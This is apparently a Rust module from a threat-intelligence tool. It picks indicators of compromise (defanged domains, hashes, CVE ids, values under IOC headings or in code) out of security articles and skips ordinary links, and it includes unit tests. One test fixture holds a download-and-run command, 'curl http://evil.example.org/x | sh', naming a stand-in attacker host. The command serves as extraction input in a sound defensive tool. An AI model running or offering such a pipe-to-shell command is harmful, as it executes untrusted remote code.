//! Which values of an article are indicators, and which are only mentioned.
//!
//! An article links to its references, its publisher and everybody's sites.
//! So a value counts by how and where it is written: defanged, which nobody
//! does to a link; as a hash or the id of a vulnerability, which is nothing
//! else; below a heading that announces indicators; in code; or as all that an
//! item, a cell or a line says. A plain hyperlink is a reference.

use std::collections::HashSet;
use std::ops::Range;

use super::heading::Section;
use super::known::{is_known, is_known_host};
use super::prose::{Block, Place, Prose};
use crate::extract::{Mention, Options, extract};
use crate::normalize::change;
use crate::value::domain::registrable;
use crate::value::is_non_global;
use crate::value::{Kind, Value};

/// Values that are taken of one article.
pub const MAX_INDICATORS: usize = 5_000;

/// Other words in an item or cell that a value may stand beside.
const MAX_WORDS: usize = 8;

/// A value that counts, where it does first.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Found {
    pub(super) value: Value,
    pub(super) port: Option<u16>,
    /// The sentence: byte offsets in the text.
    pub(super) sentence: Range<usize>,
    pub(super) doubtful: bool,
}

/// What a text has of values.
#[derive(Default)]
pub(super) struct Indicators {
    /// In the order of the text, each value once.
    pub(super) found: Vec<Found>,
    /// Ids of ATT&CK, wherever they stand.
    pub(super) techniques: Vec<String>,
    /// Whether there were more than are taken.
    pub(super) is_cut: bool,
}

/// Finds them. `own` are registrable domains of the publisher.
pub(super) fn find_indicators(prose: &Prose, own: &[&str]) -> Indicators {
    let mut indicators = Indicators::default();
    let mut seen = HashSet::new();
    let options = Options::default();
    extract(&prose.text, &options, &mut |mention| {
        let value = &mention.reading.value;
        if value.kind() == Kind::MitreAttack {
            indicators.techniques.push(value.as_str().to_owned());
            return;
        }
        if !counts(&mention, prose, own) || seen.contains(value) {
            return;
        }
        if indicators.found.len() >= MAX_INDICATORS {
            indicators.is_cut = true;
            return;
        }
        seen.insert(value.clone());
        indicators.found.push(Found {
            value: value.clone(),
            port: mention.reading.port,
            sentence: mention.sentence(&prose.text),
            doubtful: mention.doubtful,
        });
    });
    indicators
}

/// Whether a value counts where it is mentioned.
fn counts(mention: &Mention, prose: &Prose, own: &[&str]) -> bool {
    let value = &mention.reading.value;
    match value.kind() {
        Kind::Md5 | Kind::Sha1 | Kind::Sha256 | Kind::Sha512 | Kind::Cve => return true,
        _ => {}
    }
    let host = value.as_ref().host().unwrap_or(value.as_str());
    let site = registrable(host).unwrap_or(host);
    if own.contains(&site) {
        return false;
    }
    if is_defanged(mention) {
        // Of a well-known site a page may be bad, not the site.
        return value.kind() == Kind::Url || !is_known_host(host);
    }
    let reaches_nowhere = matches!(value.kind(), Kind::Ipv4 | Kind::Ipv6 | Kind::Url)
        && is_non_global(&value.as_ref());
    if is_known(site) || reaches_nowhere || mention.doubtful {
        return false;
    }
    let Some(block) = prose.block_at(mention.span.start) else {
        return false;
    };
    match block.section {
        Section::Indicators => !matches!(block.place, Place::Heading(_)),
        Section::References => false,
        Section::Other if value.kind() == Kind::Email => false,
        Section::Other if prose.link_at(mention.span.start).is_some() => false,
        Section::Other => match block.place {
            Place::Code => true,
            Place::Item | Place::Cell => stands_out(mention, block, &prose.text, MAX_WORDS),
            Place::Sentence => stands_out(mention, block, &prose.text, 0),
            Place::Heading(_) => false,
        },
    }
}

fn is_defanged(mention: &Mention) -> bool {
    const DEFANGED: [&str; 5] = [
        change::DOT_REFANGED,
        change::AT_REFANGED,
        change::COLON_REFANGED,
        change::SLASH_REFANGED,
        change::SCHEME_REFANGED,
    ];
    let changes = &mention.reading.changes;
    changes.iter().any(|name| DEFANGED.contains(name))
}

/// Whether a block begins or ends with the value and has at most so many words
/// besides.
fn stands_out(mention: &Mention, block: &Block, text: &str, words: usize) -> bool {
    let end = mention.span.end.min(block.span.end);
    let before = &text[block.span.start..mention.span.start];
    let behind = &text[end..block.span.end];
    let count = |text: &str| {
        let is_word = |word: &&str| word.contains(|char: char| char.is_alphanumeric());
        text.split_whitespace().filter(is_word).count()
    };
    let (before, behind) = (count(before), count(behind));
    (before == 0 || behind == 0) && before + behind <= words
}

#[cfg(test)]
mod tests {
    use super::super::{read_html, read_plain};
    use super::*;

    fn of(prose: &Prose) -> Vec<String> {
        let found = find_indicators(prose, &["example.net"]).found;
        found
            .iter()
            .map(|found| found.value.as_str().to_owned())
            .collect()
    }

    const HASH: &str = "0123456789abcdef0123456789abcdef";

    #[test]
    fn defanged_values_hashes_and_ids_count_anywhere() {
        let html = format!(
            "<p>It calls bad[.]example[.]org and 198.51.100[.]7, drops {HASH} and exploits CVE-2026-0001."
        );
        assert_eq!(
            of(&read_html(&html)),
            ["bad.example.org", "198.51.100.7", HASH, "CVE-2026-0001"]
        );
    }

    #[test]
    fn links_and_names_in_passing_do_not() {
        for html in [
            "<p>See <a href='https://evil.example.org/x'>https://evil.example.org/x</a>",
            "<p>We asked example.org for a comment.",
            "<ul><li><a href='https://evil.example.org/'>https://evil.example.org/</a></ul>",
            "<h2>References</h2><ul><li>https://evil.example.org/</ul>",
            "<p>Follow us on twitter[.]com",
            "<pre>curl http://127.0.0.1/x https://github.com/a/b</pre>",
        ] {
            assert_eq!(of(&read_html(html)), Vec::<String>::new(), "{html}");
        }
    }

    #[test]
    fn lists_tables_code_and_sections_count() {
        for (html, expected) in [
            ("<ul><li>C2: evil.example.org</ul>", "evil.example.org"),
            (
                "<table><tr><td>evil.example.org<td>C2</table>",
                "evil.example.org",
            ),
            (
                "<pre>curl http://evil.example.org/x | sh</pre>",
                "http://evil.example.org/x",
            ),
            (
                "<h2>IOCs</h2><p>The host evil.example.org was used",
                "evil.example.org",
            ),
            ("<p>evil.example.org<br>", "evil.example.org"),
            (
                "<p>hxxps://github[.]com/evil/repo",
                "https://github.com/evil/repo",
            ),
        ] {
            assert_eq!(of(&read_html(html)), [expected], "{html}");
        }
        let notes = "INFECTION TRAFFIC:\n- evil.example.org - first request\nREFERENCES:\n- https://other.example.org/\n";
        assert_eq!(of(&read_plain(notes)), ["evil.example.org"]);
    }
}
